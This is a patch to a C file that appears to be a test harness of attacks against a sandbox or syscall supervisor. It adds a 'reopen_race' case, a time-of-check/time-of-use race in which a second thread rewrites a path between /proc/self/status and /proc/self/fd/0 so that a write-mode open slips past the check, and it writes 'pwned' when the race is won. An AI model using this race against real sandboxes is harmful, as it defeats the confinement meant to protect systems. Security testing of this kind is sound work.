@@ -1323,6 +1323,43 @@ static int a_reopen_deleted(void) {
     return 0;
 }
 
+/* The same reopen, raced: a /proc open is answered by CONTINUE, and the kernel then
+   reads the path again; a second thread rewrites it to /proc/self/fd/0 in between. */
+static char reopen_path[32] = "/proc/self/status";
+static volatile int reopen_stop;
+static void *reopen_flip(void *unused) {
+    (void)unused;
+    while (!reopen_stop) {
+        memcpy(reopen_path, "/proc/self/fd/0\0\0", 18);
+        __asm__ volatile("" ::: "memory");
+        memcpy(reopen_path, "/proc/self/status", 18);
+        __asm__ volatile("" ::: "memory");
+    }
+    return NULL;
+}
+
+static int a_reopen_race(long tries) {
+    struct stat held, st;
+    if (fstat(0, &held) != 0) return 1;
+    pthread_t t;
+    pthread_create(&t, NULL, reopen_flip, NULL);
+    long opened = 0, refused = 0, won = 0;
+    for (long i = 0; i < tries && !won; i++) {
+        int fd = open(reopen_path, O_WRONLY | O_APPEND);
+        if (fd < 0) { refused += errno == EACCES; continue; }
+        opened++;
+        if (fstat(fd, &st) == 0 && st.st_ino == held.st_ino && st.st_dev == held.st_dev) {
+            won = 1;
+            rep("race_write", write(fd, "pwned\n", 6));
+        }
+        close(fd);
+    }
+    reopen_stop = 1;
+    pthread_join(t, NULL);
+    printf("race won=%ld opened=%ld refused=%ld\n", won, opened, refused);
+    return 0;
+}
+
 int main(int argc, char **argv) {
     if (argc > 1 && !strcmp(argv[1], "bigargs-child")) { printf("child ran argc=%d\n", argc); return 0; }
     if (argc < 2) { fprintf(stderr, "usage: attack NAME [ARGS]\n"); return 2; }
@@ -1374,6 +1411,7 @@ int main(int argc, char **argv) {
     if (!strcmp(a, "init_fds")) return a_init_fds();
     if (!strcmp(a, "link_held")) return a_link_held(argv[3]);
     if (!strcmp(a, "reopen_deleted")) return a_reopen_deleted();
+    if (!strcmp(a, "reopen_race")) return a_reopen_race(atol(argv[3]));
     fprintf(stderr, "unknown attack %s\n", a);
     return 2;
 }
